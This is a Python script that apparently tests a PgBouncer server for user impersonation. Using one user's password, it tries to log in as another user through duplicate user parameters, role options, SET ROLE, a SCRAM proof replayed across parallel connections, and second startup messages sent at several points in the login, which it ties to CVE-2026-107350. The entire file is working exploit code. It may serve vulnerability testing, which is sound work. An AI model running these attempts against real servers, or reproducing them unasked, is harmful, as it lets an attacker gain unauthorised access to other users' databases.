"""Tries in every way that a login offers to become another user of PgBouncer than the one whose password is known.

usage: impostor.py HOST PORT KNOWN OWN_DATABASE TARGET TARGET_DATABASE      prints {attempt: outcome}
Reads the password of KNOWN from standard input. CVE-2026-107350 is the second start within one login.
"""

from __future__ import annotations

import itertools
import json
import secrets
import struct
import sys
from concurrent.futures import ThreadPoolExecutor

from postgresql_wire import dial, final, first, message, reason, startup

PATIENCE_S = 5.0
# Send the next message after this silence of the server.
SILENCE_S = 0.4
AT_ONCE = 8
MISSING = "database_that_does_not_exist"


class Refused(Exception):
    """The server's message."""


class Login:
    def __init__(self, address: tuple[str, int], password: str) -> None:
        self.socket = dial(address, PATIENCE_S)
        self.password = password
        self.read = b""
        self.bare = f"n=,r={secrets.token_urlsafe(18)}"

    def send(self, *messages: bytes) -> None:
        self.socket.sendall(b"".join(messages))

    def next(self, patience_s: float = PATIENCE_S) -> tuple[bytes, bytes] | None:
        """The next message; None if none comes in time."""
        self.socket.settimeout(patience_s)
        while len(self.read) < 5 or len(self.read) < 1 + struct.unpack("!I", self.read[1:5])[0]:
            try:
                chunk = self.socket.recv(65536)
            except TimeoutError:
                return None
            if not chunk:
                raise Refused("closed without a message")
            self.read += chunk
        end = 1 + struct.unpack("!I", self.read[1:5])[0]
        kind, body, self.read = self.read[:1], self.read[5:end], self.read[end:]
        if kind == b"E":
            raise Refused(reason(body))
        return kind, body

    def until(self, expected: bytes) -> bytes:
        while True:
            received = self.next()
            if received is None:
                raise Refused("silence")
            if received[0] == expected:
                return received[1]

    def drain(self) -> None:
        while self.next(SILENCE_S):
            pass

    def first(self) -> bytes:
        return first(self.bare)

    def final(self, challenge: str) -> bytes:
        return final(self.bare, challenge, self.password)

    def challenge(self) -> str:
        """The server's half of the SCRAM exchange, skipping other messages."""
        while True:
            body = self.until(b"R")
            if struct.unpack("!I", body[:4])[0] == 11:
                return body[4:].decode()

    def who(self) -> str:
        """The user and database of this login according to PostgreSQL."""
        self.until(b"Z")
        self.send(message(b"Q", b"SELECT current_user || '@' || current_database()\0"))
        row = self.until(b"D")
        return row[6:].decode()


class Impostor:
    def __init__(self, address: tuple[str, int], known: str, password: str, own: str, target: str, theirs: str) -> None:
        self.address, self.known, self.password = address, known, password
        self.own, self.target, self.theirs = own, target, theirs

    def login(self) -> Login:
        return Login(self.address, self.password)

    def plain(self, *pairs: tuple[str, str]) -> str:
        login = self.login()
        login.send(startup(*pairs))
        login.send(login.first())
        login.send(login.final(login.challenge()))
        return login.who()

    def twice(self, before: str, database: str, when: str) -> str:
        """A second start as the target, within the login of the known user to the database `before`."""
        login = self.login()
        begin = startup(("user", self.known), ("database", before))
        again = startup(("user", self.target), ("database", database))
        if when == "at once":
            login.send(begin, again, login.first())
        elif when == "before the exchange":
            login.send(begin)
            login.drain()
            login.send(again)
            login.drain()
            login.send(login.first())
        else:
            login.send(begin, login.first())
        challenge = login.challenge()
        if when == "within the exchange":
            login.send(again)
            login.drain()
            login.send(login.final(challenge))
        elif when == "after the proof":
            login.send(login.final(challenge), again)
        elif when == "before the proof":
            login.send(again, login.final(challenge))
        else:
            login.send(login.final(challenge))
        return login.who()

    def crossed(self) -> str:
        """Two logins at once: the proof for one is also sent to the other."""
        known, target = self.login(), self.login()
        known.send(startup(("user", self.known), ("database", self.own)))
        target.send(startup(("user", self.target), ("database", self.theirs)))
        target.bare = known.bare
        known.send(known.first())
        target.send(target.first())
        proof = known.final(known.challenge())
        target.challenge()
        known.send(proof)
        target.send(proof)
        return target.who()

    def afterwards(self, statement: str) -> str:
        login = self.login()
        login.send(startup(("user", self.known), ("database", self.own)))
        login.send(login.first())
        login.send(login.final(login.challenge()))
        login.until(b"Z")
        login.send(message(b"Q", statement.encode() + b"\0"))
        login.next()
        return login.who()

    def attempts(self):
        known, target, own, theirs = self.known, self.target, self.own, self.theirs
        yield "the known user in its database", lambda: self.plain(("user", known), ("database", own))
        yield "the target's name with the known password", lambda: self.plain(("user", target), ("database", theirs))
        yield "the known user in the target's database", lambda: self.plain(("user", known), ("database", theirs))
        yield "both names in one start", lambda: self.plain(("user", known), ("user", target), ("database", theirs))
        yield (
            "both names in one start, the target first",
            lambda: self.plain(("user", target), ("user", known), ("database", theirs)),
        )
        for option in ("role", "session_authorization"):
            yield f"{option} at login", lambda o=option: self.plain(("user", known), ("database", own), (o, target))
            options = ("options", f"-c {option}={target}")
            yield f"{option} in the options", lambda o=options: self.plain(("user", known), ("database", own), o)
        for statement in (f'SET ROLE "{target}"', f'SET SESSION AUTHORIZATION "{target}"'):
            yield f"{statement} after the login", lambda s=statement: self.afterwards(s)
        yield "the proof of another login", self.crossed
        moments = ("at once", "before the exchange", "within the exchange", "before the proof", "after the proof")
        for before, when in itertools.product((MISSING, own, "pgbouncer"), moments):
            for database in (theirs, "pgbouncer") if before == MISSING else (theirs,):
                second_start = f"a second start {when}: {before}, then {database}"
                yield second_start, lambda b=before, d=database, w=when: self.twice(b, d, w)

    def outcomes(self) -> dict[str, str]:
        def outcome(attempt) -> str:
            try:
                return "became " + attempt()
            except (Refused, OSError) as refusal:
                return f"refused: {refusal}"

        names, attempts = zip(*self.attempts(), strict=True)
        with ThreadPoolExecutor(max_workers=AT_ONCE) as pool:
            return dict(zip(names, pool.map(outcome, attempts), strict=True))


def main() -> None:
    host, port, known, own, target, theirs = sys.argv[1:]
    password = sys.stdin.readline().rstrip("\n")
    print(json.dumps(Impostor((host, int(port)), known, password, own, target, theirs).outcomes()))


main()
